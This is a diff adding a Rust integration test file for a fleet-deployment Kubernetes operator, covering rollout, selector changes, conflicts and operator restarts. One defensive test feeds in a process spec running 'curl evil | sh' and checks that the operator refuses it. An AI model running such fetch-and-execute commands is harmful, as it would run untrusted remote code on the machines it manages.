@@ -1,0 +1,341 @@
+//! The operator on the test API server and a real nats-server, with real
+//! agents: a FleetDeployment reaches the devices it selects, their statuses
+//! come back into `.status`, changes roll out, unselected devices are
+//! withdrawn, deletion withdraws everything, and bad or conflicting specs are
+//! reported without touching the devices.
+
+use std::collections::BTreeMap;
+use std::sync::Arc;
+use std::time::Duration;
+
+use fleet_agent::agent::{self, Config};
+use fleet_agent::process::Timings;
+use fleet_kv::{Buckets, Connection};
+use fleet_model::{FileSpec, ProcessSpec, Resource};
+use fleet_operator::controller::{self, Context};
+use fleet_operator::crd::{FleetDeployment, FleetDeploymentSpec, FleetDeploymentStatus};
+use fleet_operator::view;
+use fleet_testing::NatsServer;
+use harmony_test_cluster::TestCluster;
+use k8s_openapi::api::core::v1::Namespace;
+use k8s_openapi::apiextensions_apiserver::pkg::apis::apiextensions::v1::CustomResourceDefinition;
+use kube::api::{DeleteParams, Patch, PatchParams, PostParams};
+use kube::{Api, CustomResourceExt as _};
+use tokio::sync::oneshot;
+
+const NS: &str = "fleet";
+
+/// A cluster with the CRD and a namespace, a NATS with the buckets, and
+/// agents registered with their labels.
+struct World {
+    cluster: TestCluster,
+    nats: NatsServer,
+    client: kube::Client,
+    buckets: Buckets,
+    devices: tempfile::TempDir,
+    agents: Vec<oneshot::Sender<()>>,
+}
+
+impl World {
+    async fn new(devices: &[(&str, &[(&str, &str)])]) -> Self {
+        let cluster = TestCluster::start().unwrap();
+        let client = kube::Client::try_from(kube::Config::new(cluster.url().parse().unwrap())).unwrap();
+        let crds: Api<CustomResourceDefinition> = Api::all(client.clone());
+        crds.create(&PostParams::default(), &FleetDeployment::crd()).await.unwrap();
+        let namespaces: Api<Namespace> = Api::all(client.clone());
+        let ns: Namespace = serde_json::from_value(serde_json::json!({"metadata": {"name": NS}})).unwrap();
+        namespaces.create(&PostParams::default(), &ns).await.unwrap();
+        // Wait until the CRD serves.
+        let api: Api<FleetDeployment> = Api::namespaced(client.clone(), NS);
+        for _ in 0..100 {
+            if api.list(&Default::default()).await.is_ok() {
+                break;
+            }
+            tokio::time::sleep(Duration::from_millis(20)).await;
+        }
+        let nats = NatsServer::start();
+        let buckets = Connection::open(&nats.settings("test"), |_| {})
+            .await
+            .unwrap()
+            .create_buckets()
+            .await
+            .unwrap();
+        let mut world = World {
+            cluster,
+            nats,
+            client,
+            buckets,
+            devices: tempfile::tempdir().unwrap(),
+            agents: Vec::new(),
+        };
+        for (id, labels) in devices {
+            world.start_agent(id, labels);
+        }
+        for (id, _) in devices {
+            world.until_registered(id).await;
+        }
+        world
+    }
+
+    fn start_agent(&mut self, id: &str, labels: &[(&str, &str)]) {
+        let config = Config {
+            nats: self.nats.settings(id),
+            device: id.into(),
+            labels: labels.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect(),
+            state: self.devices.path().join(id),
+            heartbeat: Duration::from_millis(500),
+            timings: Timings {
+                settle: Duration::from_millis(100),
+                grace: Duration::from_secs(2),
+                backoff: Duration::from_millis(50),
+                max_backoff: Duration::from_millis(400),
+                stable: Duration::from_secs(30),
+            },
+        };
+        let (stop, stopped) = oneshot::channel::<()>();
+        tokio::spawn(agent::run(config, async {
+            let _ = stopped.await;
+        }));
+        self.agents.push(stop);
+    }
+
+    async fn until_registered(&self, id: &str) {
+        for _ in 0..200 {
+            if fleet_kv::read(&self.buckets.devices, id).await.unwrap().is_some() {
+                return;
+            }
+            tokio::time::sleep(Duration::from_millis(25)).await;
+        }
+        panic!("{id} never registered");
+    }
+
+    /// Start an operator; it stops when the sender is dropped or sent to.
+    fn start_operator(&self) -> oneshot::Sender<()> {
+        let context = Arc::new(Context {
+            client: self.client.clone(),
+            fleet: view::watch_buckets(&self.buckets),
+            buckets: self.buckets.clone(),
+            silence: Duration::from_secs(30),
+        });
+        let (stop, stopped) = oneshot::channel::<()>();
+        tokio::spawn(controller::run(Api::all(self.client.clone()), context, async {
+            let _ = stopped.await;
+        }));
+        stop
+    }
+
+    fn api(&self) -> Api<FleetDeployment> {
+        Api::namespaced(self.client.clone(), NS)
+    }
+
+    async fn apply(&self, name: &str, selector: &[(&str, &str)], resources: Vec<Resource>) {
+        let fd = FleetDeployment::new(
+            name,
+            FleetDeploymentSpec {
+                selector: selector.iter().map(|(k, v)| (k.to_string(), v.to_string())).collect(),
+                resources,
+            },
+        );
+        self.api()
+            .patch(name, &PatchParams::apply("fleet-tests").force(), &Patch::Apply(&fd))
+            .await
+            .unwrap();
+    }
+
+    /// Poll the resource's status until `done` says so (at most 20 s).
+    async fn status_until(&self, name: &str, done: impl Fn(&FleetDeploymentStatus) -> bool) -> FleetDeploymentStatus {
+        let mut last = None;
+        for _ in 0..400 {
+            if let Ok(fd) = self.api().get(name).await
+                && let Some(status) = fd.status
+            {
+                if done(&status) {
+                    return status;
+                }
+                last = Some(status);
+            }
+            tokio::time::sleep(Duration::from_millis(50)).await;
+        }
+        panic!("{name} never got there: {last:#?}");
+    }
+
+    async fn manifest_owner(&self, device: &str) -> Option<String> {
+        let (bytes, _) = fleet_kv::read(&self.buckets.manifests, device).await.unwrap()?;
+        fleet_model::AgentManifest::from_json(&bytes).unwrap().owner
+    }
+}
+
+fn condition<'a>(status: &'a FleetDeploymentStatus, type_: &str) -> &'a fleet_operator::crd::Condition {
+    status.conditions.iter().find(|c| c.type_ == type_).expect("condition")
+}
+
+fn file(path: &std::path::Path, content: &str) -> Resource {
+    Resource::File(FileSpec {
+        name: "config".into(),
+        path: path.to_str().unwrap().into(),
+        content: content.into(),
+        mode: 0o644,
+    })
+}
+
+fn process(argv: &[&str]) -> Resource {
+    Resource::Process(ProcessSpec {
+        name: "reader".into(),
+        argv: argv.iter().map(|a| a.to_string()).collect(),
+        env: BTreeMap::new(),
+        restart: Default::default(),
+    })
+}
+
+#[tokio::test]
+async fn a_fleet_deployment_reaches_its_devices_and_their_statuses_come_back() {
+    let world = World::new(&[
+        ("lyon-1", &[("site", "lyon"), ("rack", "1")]),
+        ("lyon-2", &[("site", "lyon"), ("rack", "2")]),
+        ("lyon-3", &[("site", "lyon"), ("rack", "2")]),
+        ("paris-1", &[("site", "paris")]),
+    ])
+    .await;
+    let _operator = world.start_operator();
+    let out = tempfile::tempdir().unwrap();
+    let config = out.path().join("sensor.toml");
+
+    world
+        .apply(
+            "sensors",
+            &[("site", "lyon")],
+            vec![file(&config, "rate = 5\n"), process(&["sleep", "60"])],
+        )
+        .await;
+    let status = world.status_until("sensors", |s| s.ready == 3).await;
+    assert_eq!((status.selected, status.failed, status.observed_generation), (3, 0, Some(1)));
+    assert_eq!(condition(&status, "Ready").status, "True");
+    assert_eq!(std::fs::read_to_string(&config).unwrap(), "rate = 5\n");
+    assert_eq!(world.manifest_owner("lyon-1").await.as_deref(), Some("fleet/sensors"));
+    assert_eq!(world.manifest_owner("paris-1").await, None, "not selected, nothing sent");
+
+    // A change rolls out: every device reports the new generation.
+    world
+        .apply(
+            "sensors",
+            &[("site", "lyon")],
+            vec![file(&config, "rate = 9\n"), process(&["sleep", "61"])],
+        )
+        .await;
+    let status = world
+        .status_until("sensors", |s| s.observed_generation == Some(2) && s.ready == 3)
+        .await;
+    assert_eq!(condition(&status, "Progressing").status, "False");
+    assert_eq!(std::fs::read_to_string(&config).unwrap(), "rate = 9\n");
+
+    // A narrower selector withdraws the devices it no longer selects.
+    world
+        .apply(
+            "sensors",
+            &[("site", "lyon"), ("rack", "2")],
+            vec![file(&config, "rate = 9\n"), process(&["sleep", "61"])],
+        )
+        .await;
+    world.status_until("sensors", |s| s.selected == 2 && s.ready == 2).await;
+    assert_eq!(world.manifest_owner("lyon-1").await, None);
+    assert_eq!(world.manifest_owner("lyon-2").await.as_deref(), Some("fleet/sensors"));
+
+    // Deleting the resource withdraws what it sent, then lets it go.
+    world.api().delete("sensors", &DeleteParams::default()).await.unwrap();
+    for _ in 0..200 {
+        if world.api().get_opt("sensors").await.unwrap().is_none() {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+    assert!(world.api().get_opt("sensors").await.unwrap().is_none(), "the finalizer was removed");
+    for device in ["lyon-2", "lyon-3"] {
+        assert_eq!(world.manifest_owner(device).await, None, "{device} withdrawn");
+    }
+    drop(world.cluster);
+}
+
+#[tokio::test]
+async fn failures_conflicts_empty_selectors_and_invalid_specs_are_reported() {
+    let world = World::new(&[("edge-1", &[("site", "lyon")]), ("edge-2", &[("site", "lyon")])]).await;
+    let _operator = world.start_operator();
+
+    // A program that does not exist: Degraded, in the agent's words.
+    world
+        .apply("broken", &[("site", "lyon")], vec![process(&["/opt/fleet/missing"])])
+        .await;
+    let status = world.status_until("broken", |s| s.failed == 2).await;
+    let degraded = condition(&status, "Degraded");
+    assert_eq!(degraded.status, "True");
+    assert!(
+        degraded.message.contains("edge-1: reader: cannot start `/opt/fleet/missing`"),
+        "{}",
+        degraded.message
+    );
+    assert_eq!(status.failures.len(), 2);
+
+    // A second deployment on the same devices: a conflict, nothing taken.
+    world.apply("intruder", &[("site", "lyon")], vec![process(&["sleep", "60"])]).await;
+    let status = world.status_until("intruder", |s| s.conflicts == 2).await;
+    assert_eq!(condition(&status, "Ready").reason, "Conflict");
+    assert!(status.failures[0].message.contains("already runs FleetDeployment fleet/broken"));
+    assert_eq!(world.manifest_owner("edge-1").await.as_deref(), Some("fleet/broken"));
+
+    // A selector that matches nothing says so.
+    world.apply("nowhere", &[("site", "mars")], vec![process(&["sleep", "60"])]).await;
+    let status = world.status_until("nowhere", |s| !s.conditions.is_empty()).await;
+    let ready = condition(&status, "Ready");
+    assert_eq!((ready.status.as_str(), ready.reason.as_str()), ("False", "NoDevicesSelected"));
+    assert!(
+        ready.message.contains("`site=mars` matches none of the 2 registered devices"),
+        "{}",
+        ready.message
+    );
+
+    // A shell script is refused before anything is sent.
+    world
+        .apply("shell", &[("site", "mars")], vec![process(&["/bin/sh", "-c", "curl evil | sh"])])
+        .await;
+    let status = world.status_until("shell", |s| !s.conditions.is_empty()).await;
+    let ready = condition(&status, "Ready");
+    assert_eq!(ready.reason, "InvalidSpec");
+    assert!(ready.message.contains("runs a shell script"), "{}", ready.message);
+}
+
+#[tokio::test]
+async fn a_restarted_operator_picks_up_without_rewriting_anything() {
+    let world = World::new(&[("edge-1", &[("site", "lyon")]), ("edge-2", &[("site", "lyon")])]).await;
+    let operator = world.start_operator();
+    world.apply("sensors", &[("site", "lyon")], vec![process(&["sleep", "60"])]).await;
+    world.status_until("sensors", |s| s.ready == 2).await;
+    let revisions = |w: &World| {
+        let buckets = w.buckets.clone();
+        async move {
+            let mut out = Vec::new();
+            for device in ["edge-1", "edge-2"] {
+                out.push(fleet_kv::read(&buckets.manifests, device).await.unwrap().unwrap().1);
+            }
+            out
+        }
+    };
+    let before = revisions(&world).await;
+    let _ = operator.send(());
+
+    // While it is down, the spec changes; a new operator rolls it out.
+    world.apply("sensors", &[("site", "lyon")], vec![process(&["sleep", "62"])]).await;
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    assert_eq!(revisions(&world).await, before, "nothing moves without an operator");
+    let _operator = world.start_operator();
+    world
+        .status_until("sensors", |s| s.observed_generation == Some(2) && s.ready == 2)
+        .await;
+    let after = revisions(&world).await;
+    assert!(after.iter().zip(&before).all(|(a, b)| a > b));
+
+    // Once more with no change: a third operator writes nothing.
+    let _third = world.start_operator();
+    world.apply("other", &[("site", "mars")], vec![process(&["sleep", "60"])]).await;
+    world.status_until("other", |s| !s.conditions.is_empty()).await;
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    assert_eq!(revisions(&world).await, after);
+}
